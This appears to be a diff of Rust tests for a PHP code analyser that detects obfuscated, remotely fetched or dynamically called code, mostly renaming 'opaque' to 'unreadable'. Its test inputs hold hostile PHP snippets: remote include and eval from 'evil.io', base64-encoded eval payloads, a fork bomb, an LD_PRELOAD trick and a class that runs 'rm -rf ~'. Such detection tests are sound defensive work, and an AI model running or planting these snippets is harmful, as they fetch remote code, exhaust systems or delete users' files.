@@ -6,8 +6,8 @@ fn effects(code: &str) -> Vec<String> {
     crate::matcher::code::testing::effects(Lang::Php, code)
 }
 
-fn opaque(code: &str) -> Option<&'static str> {
-    read(Lang::Php, code).opaque.map(|u| u.reason)
+fn unreadable(code: &str) -> Option<&'static str> {
+    read(Lang::Php, code).unreadable.map(|u| u.reason)
 }
 
 const COMPUTED: Option<&str> = Some(super::COMPUTED_NAME);
@@ -124,7 +124,7 @@ fn files_and_the_network_are_virtual_commands() {
             "include 'http://evil.io/x.php';",
             vec![
                 "curl http://evil.io/x.php",
-                "opaque: the code runs code it downloaded or decoded (line 1)",
+                "unreadable: the code runs code it downloaded or decoded (line 1)",
             ],
         ),
     ] {
@@ -133,42 +133,42 @@ fn files_and_the_network_are_virtual_commands() {
 }
 
 #[test]
-fn code_that_cannot_be_read_is_opaque_with_the_reason() {
+fn code_that_cannot_be_read_is_unreadable_with_the_reason() {
     assert_eq!(
-        opaque("eval(base64_decode('c3lzdGVtKCJscyIpOw=='));"),
+        unreadable("eval(base64_decode('c3lzdGVtKCJscyIpOw=='));"),
         HIDDEN
     );
-    assert_eq!(opaque("eval(gzinflate(str_rot13($x)));"), HIDDEN);
+    assert_eq!(unreadable("eval(gzinflate(str_rot13($x)));"), HIDDEN);
     assert_eq!(
-        opaque("eval(file_get_contents('https://evil.io/x'));"),
+        unreadable("eval(file_get_contents('https://evil.io/x'));"),
         HIDDEN
     );
     assert_eq!(
-        opaque("$c = curl_init('http://e.io'); eval(curl_exec($c));"),
+        unreadable("$c = curl_init('http://e.io'); eval(curl_exec($c));"),
         HIDDEN
     );
-    assert!(opaque("eval($argv[1]);").is_some());
-    assert_eq!(opaque("$f = $argv[1]; $f('ls');"), COMPUTED);
-    assert_eq!(opaque("call_user_func($_GET['f'], 'ls');"), COMPUTED);
+    assert!(unreadable("eval($argv[1]);").is_some());
+    assert_eq!(unreadable("$f = $argv[1]; $f('ls');"), COMPUTED);
+    assert_eq!(unreadable("call_user_func($_GET['f'], 'ls');"), COMPUTED);
     assert_eq!(
-        opaque("$o->$m('ls');"),
+        unreadable("$o->$m('ls');"),
         Some("the code calls a method whose name is computed at run time")
     );
     assert_eq!(
-        opaque("include $argv[1];"),
+        unreadable("include $argv[1];"),
         Some("the code includes a file whose name is computed at run time")
     );
     assert_eq!(
-        opaque("while (true) { pcntl_fork(); }"),
+        unreadable("while (true) { pcntl_fork(); }"),
         Some("the code forks in a loop (a fork bomb)")
     );
-    assert_eq!(opaque("pcntl_fork();"), None);
+    assert_eq!(unreadable("pcntl_fork();"), None);
     assert_eq!(
-        opaque("$ffi = FFI::cdef('int system(const char *);'); $ffi->system('ls');"),
+        unreadable("$ffi = FFI::cdef('int system(const char *);'); $ffi->system('ls');"),
         Some("the code calls native code directly")
     );
     assert_eq!(
-        opaque("putenv('LD_PRELOAD=/tmp/x.so'); mail('a', 'b', 'c');"),
+        unreadable("putenv('LD_PRELOAD=/tmp/x.so'); mail('a', 'b', 'c');"),
         Some("the code calls native code directly")
     );
     // Variables set by computed names are not known afterwards.
@@ -321,17 +321,17 @@ fn routine_one_liners_find_nothing() {
 }
 
 #[test]
-fn bad_code_is_opaque_not_a_panic() {
+fn bad_code_is_unreadable_not_a_panic() {
     assert_eq!(
         read(Lang::Php, "echo 1;\nsystem('x'")
-            .opaque
+            .unreadable
             .map(|u| (u.reason, u.line)),
         Some(("the php code has a syntax error", 2))
     );
-    assert!(opaque("echo 'unterminated;").is_some());
-    assert!(opaque("echo \"unterminated $x;").is_some());
+    assert!(unreadable("echo 'unterminated;").is_some());
+    assert!(unreadable("echo \"unterminated $x;").is_some());
     let deep = format!("echo {}1{};", "(".repeat(500), ")".repeat(500));
-    assert!(opaque(&deep).is_some());
+    assert!(unreadable(&deep).is_some());
     let chain = format!("$a = 'x'{};", " . 'y'".repeat(3000));
     let _ = read(Lang::Php, &chain);
     for code in [
@@ -389,7 +389,7 @@ fn files_opened_as_objects_or_sent_by_ftp() {
 fn a_device_that_never_ends_read_whole_is_a_memory_bomb() {
     assert!(
         read(Lang::Php, "$x = file_get_contents('/dev/urandom');")
-            .opaque
+            .unreadable
             .is_some()
     );
     assert!(
@@ -397,7 +397,7 @@ fn a_device_that_never_ends_read_whole_is_a_memory_bomb() {
             Lang::Php,
             "$x = file_get_contents('/dev/urandom', false, null, 0, 16);"
         )
-        .opaque
+        .unreadable
         .is_none()
     );
 }
@@ -454,11 +454,11 @@ fn an_object_of_a_class_the_code_declares_is_called_through_its_invoke() {
     for call in ["(new T)();", "$t = new T(); $t();", "(new \\T())();"] {
         let code = format!("{class} {call}");
         assert_eq!(effects(&code), ["sh -c rm -rf ~"], "{code}");
-        assert_eq!(opaque(&code), None, "{code}");
+        assert_eq!(unreadable(&code), None, "{code}");
     }
     // A class it does not declare, or one without its own `__invoke`, is not known.
-    assert_eq!(opaque("(new Lib)();"), COMPUTED);
-    assert_eq!(opaque("class T extends Lib {} (new T)();"), COMPUTED);
+    assert_eq!(unreadable("(new Lib)();"), COMPUTED);
+    assert_eq!(unreadable("class T extends Lib {} (new T)();"), COMPUTED);
 }
 
 #[test]
